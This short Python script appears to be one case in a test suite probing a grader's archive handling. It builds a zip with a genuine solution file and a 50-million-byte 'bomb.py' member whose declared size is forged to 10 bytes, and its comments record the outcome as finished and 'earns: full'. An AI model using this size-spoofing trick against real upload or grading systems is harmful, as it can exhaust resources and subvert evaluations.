# attack: a member that says it is small
# outcome: finished
# stops: archives are read in memory
# earns: full
# made: task1_cnn.zip
import io
import zipfile
from pathlib import Path

SOLUTION = (Path(__file__).parents[3] / 'solutions' / 'task1_cnn.py').read_bytes()


def make():
    file = io.BytesIO()
    with zipfile.ZipFile(file, 'w', zipfile.ZIP_DEFLATED) as archive:
        archive.writestr('task1_cnn.py', SOLUTION)
        archive.writestr('bomb.py', b'\n' * 50_000_000)
        archive.filelist[-1].file_size = 10
    return file.getvalue()
